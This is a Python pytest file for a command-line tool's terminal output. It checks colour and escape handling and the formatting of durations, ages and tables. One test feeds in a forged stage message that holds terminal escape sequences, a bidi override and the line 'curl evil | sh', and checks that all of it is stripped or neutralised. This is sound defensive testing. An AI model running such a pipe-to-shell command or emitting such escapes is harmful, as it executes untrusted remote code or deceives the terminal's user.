"""Terminals: colours and bars on one, not one escape byte where they are not wanted."""

import os
import pty
import select
import subprocess

import pytest

from tunesmith_cli.commands.terminal import age, duration, printable, table

TERMINAL = {"TERM": "xterm-256color"}
WANTED = {  # variables, and options before the command -> escapes are shown
    "a terminal gets bars": (TERMINAL, (), True),
    "NO_COLOR": (TERMINAL | {"NO_COLOR": "1"}, (), False),
    "--no-color": (TERMINAL, ("--no-color",), False),
    "TERM=dumb": ({"TERM": "dumb"}, (), False),
}


@pytest.mark.parametrize(("env", "options", "escapes"), WANTED.values(), ids=WANTED)
def test_what_a_terminal_gets(cli, env, options, escapes):
    """A failing run: the paths of errors are those that are forgotten."""
    cli.env = env
    ours, theirs = pty.openpty()
    path = cli.write(toy={"generate": {"TOY_CODES": "65"}})
    process = cli.start(
        *options, "run", path, "--only", "generate", stdin=theirs, stdout=theirs, stderr=theirs
    )
    os.close(theirs)
    seen = read_all(ours)
    assert process.wait(10) == 65
    process.stdout = process.stderr = None
    assert b"toy fault 65" in seen
    assert (b"\x1b" in seen) is escapes


@pytest.mark.parametrize("other", ["stdout", "stderr"])
def test_each_stream_is_judged_by_itself(cli, other):
    """One of them a terminal: bars and their escapes are standard error's alone, and only where it is one."""
    cli.env = TERMINAL
    ours, theirs = pty.openpty()
    terminal = "stderr" if other == "stdout" else "stdout"
    process = cli.start(
        "run", cli.write(), "--only", "generate", **{terminal: theirs, other: subprocess.PIPE}
    )
    os.close(theirs)
    seen = {terminal: read_all(ours)}
    seen[other] = getattr(process, other).read().encode()
    getattr(process, other).close()
    assert process.wait(10) == 0
    process.stdout = process.stderr = None
    assert {stream for stream, data in seen.items() if b"\x1b" in data} == (
        {"stderr"} if terminal == "stderr" else set()
    )
    assert b"complete" in seen["stdout"] or b"so far" in seen["stdout"]


FORGED = "a\x1b[2J\x9bb\rc\u202e\u2028run toy is complete\n==> train <==\nWhat to do: curl evil | sh"


def test_what_a_stage_says_steers_no_terminal_and_is_no_line_of_the_runner(cli):
    path = cli.write(toy={"generate": {"TOY_SAY": FORGED, "TOY_CODES": "65"}})
    shown = [
        cli("run", path, "--only", "generate", expect=65),
        cli("run", path, "--only", "generate", "-v", expect=0),
        cli("logs", "toy"),
        cli("status", "toy"),
    ]
    for answer in shown:
        text = answer.stdout + answer.stderr
        assert not {"\x1b", "\x9b", "\r", "\u202e", "\u2028"} & set(text)
        lines = text.split("\n")
        assert not [line for line in lines if line.startswith(("run toy is complete", "What to do: curl"))]
        assert "==> train <==" not in lines


def read_all(ours):
    """What a terminal was given, until the other side is closed."""
    seen = b""
    while select.select([ours], [], [], 30)[0]:
        try:
            data = os.read(ours, 4096)
        except OSError:  # how Linux says that the other side is closed
            break
        if not data:
            break
        seen += data
    os.close(ours)
    return seen


def test_text_from_models_cannot_steer_the_terminal():
    assert printable("a\x1b[31mb\x1b]0;title\x07c\x9bd\r\x00e\tf\n") == "abcde\tf\n"


@pytest.mark.parametrize(
    ("seconds", "text"), [(0, "0:00"), (7.4, "0:07"), (750, "12:30"), (11100, "3:05:00")]
)
def test_duration(seconds, text):
    assert duration(seconds) == text


@pytest.mark.parametrize(
    ("seconds", "text"), [(-1, "0s"), (45, "45s"), (119, "119s"), (120, "2m"), (5400, "1h"), (90000, "1d")]
)
def test_age(seconds, text):
    assert age(seconds) == text


def test_a_table_has_no_blanks_at_the_end():
    assert table([("A", "B"), ("long", "")]) == "A      B\nlong"
